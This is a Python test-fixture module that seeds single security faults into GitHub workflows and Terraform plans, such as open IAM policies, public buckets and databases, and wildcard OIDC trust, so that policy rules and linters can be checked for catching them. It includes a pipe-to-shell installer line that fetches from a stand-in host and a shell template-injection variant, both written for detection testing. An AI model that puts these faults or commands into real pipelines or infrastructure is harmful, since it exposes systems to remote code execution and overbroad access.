"""Bad twins of workflows and Terraform: one seeded fault each, and the rule or tool that must catch it."""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from typing import Any, Final, NamedTuple

from infrastructure.policy.objects import Document
from infrastructure.policy.workflows import Workflow


class TextTwin(NamedTuple):
    """A fault planted into a workflow by replacing one text, and the name of the finding that it must cause."""

    name: str
    caught_by: str
    file: str
    old: str
    new: str


def written(twin: TextTwin, found: Mapping[str, Workflow]) -> Workflow:
    """The workflow with the fault in it.

    Raises:
        LookupError: the text is not there: the twin is out of date.
    """
    text = found[twin.file].text
    if twin.old not in text:
        raise LookupError(f"{twin.name}: {twin.old!r} is not in {twin.file}")
    return Workflow(twin.file, text.replace(twin.old, twin.new))


class PlanTwin(NamedTuple):
    """A fault planted into planned resources: the type whose first resource is changed, and how."""

    name: str
    caught_by: str
    root: str
    type: str
    change: Callable[[Document], None]
    holding: str = ""


def spoilt(twin: PlanTwin, resources: list[Document]) -> list[Document]:
    """The resources with the fault in the first of its type, and among those in the first that holds a text.

    Raises:
        LookupError: there is none: the twin is out of date.
    """
    made = copy.deepcopy(resources)
    for one in made:
        if one["type"] == twin.type and twin.holding in str(one["values"]):
            twin.change(one["values"])
            return made
    raise LookupError(f"{twin.name}: no {twin.type} in {twin.root}")


def _set(*path: Any) -> Callable[[Document], None]:
    *steps, last, value = path

    def change(values: Document) -> None:
        node: Any = values
        for step in steps:
            node = node[step]
        node[last] = value

    return change


def _swap(name: str, old: str, new: str) -> Callable[[Document], None]:
    def change(values: Document) -> None:
        if old not in values[name]:
            raise LookupError(f"{old!r} is not in {name}")
        values[name] = values[name].replace(old, new)

    return change


GITHUB: Final = "token.actions.githubusercontent.com"
ALLOW_ALL: Final = '{"Statement":[{"Action":"s3:*","Effect":"Allow","Principal":"*","Resource":"*"}]}'
EVERYTHING: Final = '{"Statement":[{"Action":"*","Effect":"Allow","Resource":"*"}]}'

PLANS: Final = (
    PlanTwin(
        "wildcard OIDC sub",
        "github-subject-is-exact",
        "envs/production",
        "aws_iam_role",
        _swap("assume_role_policy", ":environment:production", ":*"),
        GITHUB,
    ),
    PlanTwin(
        "OIDC sub by pattern",
        "github-subject-is-exact",
        "envs/production",
        "aws_iam_role",
        _swap("assume_role_policy", "StringEquals", "StringLike"),
        GITHUB,
    ),
    PlanTwin(
        "OIDC without an audience",
        "github-subject-is-exact",
        "bootstrap",
        "aws_iam_role",
        _swap("assume_role_policy", ":aud", ":azp"),
        GITHUB,
    ),
    PlanTwin(
        "any service account",
        "workload-subject-is-exact",
        "envs/staging",
        "aws_iam_role",
        _swap("assume_role_policy", "system:serviceaccount:contender:", "system:serviceaccount:*:"),
        "contender:job-change-slot",
    ),
    PlanTwin(
        "public bucket",
        "bucket-is-closed",
        "envs/production",
        "aws_s3_bucket_public_access_block",
        _set("block_public_policy", False),
    ),
    PlanTwin(
        "bucket policy for everyone",
        "policy-opens-nothing",
        "envs/production",
        "aws_s3_bucket_policy",
        _set("policy", ALLOW_ALL),
    ),
    PlanTwin(
        "bucket that forgets",
        "bucket-keeps-versions",
        "bootstrap",
        "aws_s3_bucket_versioning",
        _set("versioning_configuration", 0, "status", "Suspended"),
    ),
    PlanTwin(
        "bucket that goes with its content",
        "bucket-keeps-versions",
        "envs/production",
        "aws_s3_bucket",
        _set("force_destroy", True),
    ),
    PlanTwin(
        "role that may do anything",
        "policy-is-narrow",
        "envs/production",
        "aws_iam_role_policy",
        _set("policy", EVERYTHING),
    ),
    PlanTwin(
        "administrator",
        "policy-is-narrow",
        "bootstrap",
        "aws_iam_role_policy_attachment",
        _set("policy_arn", "arn:aws:iam::aws:policy/AdministratorAccess"),
    ),
    PlanTwin(
        "role without a boundary",
        "role-within-boundary",
        "envs/production",
        "aws_iam_role",
        _set("permissions_boundary", None),
    ),
    PlanTwin(
        "public database", "database-is-inside", "envs/staging", "aws_db_instance", _set("publicly_accessible", True)
    ),
    PlanTwin(
        "plain database", "database-is-inside", "envs/staging", "aws_db_instance", _set("storage_encrypted", False)
    ),
    PlanTwin(
        "production in one zone", "database-is-inside", "envs/production", "aws_db_instance", _set("multi_az", False)
    ),
    PlanTwin(
        "API for everyone",
        "cluster-is-guarded",
        "envs/production",
        "aws_eks_cluster",
        lambda values: values["vpc_config"][0].update(endpoint_public_access=True, public_access_cidrs=["0.0.0.0/0"]),
    ),
    PlanTwin(
        "plain secrets", "cluster-is-guarded", "envs/production", "aws_eks_cluster", _set("encryption_config", [])
    ),
    PlanTwin(
        "node's role for pods",
        "node-keeps-its-role",
        "envs/production",
        "aws_launch_template",
        _set("metadata_options", 0, "http_tokens", "optional"),
    ),
    PlanTwin("movable tags", "image-stays", "bootstrap", "aws_ecr_repository", _set("image_tag_mutability", "MUTABLE")),
    PlanTwin("key for ever", "key-turns", "bootstrap", "aws_kms_key", _set("enable_key_rotation", False)),
    PlanTwin(
        "world to the database",
        "nobody-enters-from-everywhere",
        "envs/staging",
        "aws_vpc_security_group_ingress_rule",
        _set("cidr_ipv4", "0.0.0.0/0"),
    ),
    PlanTwin(
        "logs of a week", "logs-are-kept", "envs/production", "aws_cloudwatch_log_group", _set("retention_in_days", 7)
    ),
)

CHECKOUT: Final = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
UNDO: Final = 'run: $CONTENDER undo --task "$TASK" --reason "$REASON" --json'

TEXTS: Final = (
    TextTwin("unpinned action", "action-is-pinned", "ci.yml", CHECKOUT, "actions/checkout@v7"),
    TextTwin("pin without a version", "action-is-pinned", "ci.yml", " # v7.0.1", ""),
    TextTwin("pull_request_target", "no-strangers-with-rights", "ci.yml", "pull_request:", "pull_request_target:"),
    TextTwin(
        "permissions by default",
        "no-permissions-by-default",
        "release.yml",
        "permissions: {}",
        "permissions: write-all",
    ),
    TextTwin("swallowed failure", "failures-fail", "ci.yml", "run: make policy", "run: make policy || true"),
    TextTwin(
        "failure that continues",
        "failures-fail",
        "ci.yml",
        "run: make policy",
        "run: make policy\n        continue-on-error: true",
    ),
    TextTwin(
        "release cut off", "one-at-a-time", "release.yml", "cancel-in-progress: false", "cancel-in-progress: true"
    ),
    TextTwin("two at once", "one-at-a-time", "train.yml", "concurrency:", "x-concurrency:"),
    TextTwin("job without an end", "jobs-end", "e2e.yml", "    timeout-minutes: 60\n", ""),
    TextTwin(
        "key that does not expire",
        "identity-by-oidc",
        "rollback.yml",
        "role-to-assume: ${{ vars.ROLE_ARN }}",
        "aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}",
    ),
    TextTwin(
        "role in no environment",
        "identity-by-oidc",
        "rollback.yml",
        "    environment: ${{ inputs.environment }}-rollback\n",
        "",
    ),
    TextTwin(
        "reason into the shell", "no-injection", "rollback.yml", UNDO, UNDO.replace("$REASON", "${{ inputs.reason }}")
    ),
    TextTwin(
        "piped installer",
        "no-pipe-to-shell",
        "ci.yml",
        "run: make setup",
        "run: curl -fsSL https://x.example/i.sh | bash",
    ),
    TextTwin("token on disk", "checkout-forgets", "ci.yml", "persist-credentials: false", "persist-credentials: true"),
    TextTwin("target that is not there", "commands-exist", "ci.yml", "run: make setup", "run: make everything"),
    TextTwin(
        "output read by jq",
        "no-jq",
        "release.yml",
        '--markdown >> "$GITHUB_STEP_SUMMARY"',
        '--json | jq .release >> "$GITHUB_STEP_SUMMARY"',
    ),
    TextTwin("command that is not there", "commands-exist", "release.yml", "$CONTENDER promote", "$CONTENDER advance"),
)

LINTED: Final = (
    TextTwin("unpinned action", "zizmor unpinned-uses", "ci.yml", CHECKOUT, "actions/checkout@v7"),
    TextTwin(
        "template injection",
        "zizmor template-injection",
        "rollback.yml",
        UNDO,
        UNDO.replace("$REASON", "${{ inputs.reason }}"),
    ),
    TextTwin("dangerous trigger", "zizmor dangerous-triggers", "ci.yml", "pull_request:", "pull_request_target:"),
    TextTwin(
        "output of a step that is not there",
        "actionlint expression",
        "release.yml",
        "steps.wait.outputs",
        "steps.weight.outputs",
    ),
    TextTwin("job that is not there", "actionlint job-needs", "release.yml", "needs: experiment", "needs: experience"),
)
"""Those that the linters find by themselves."""
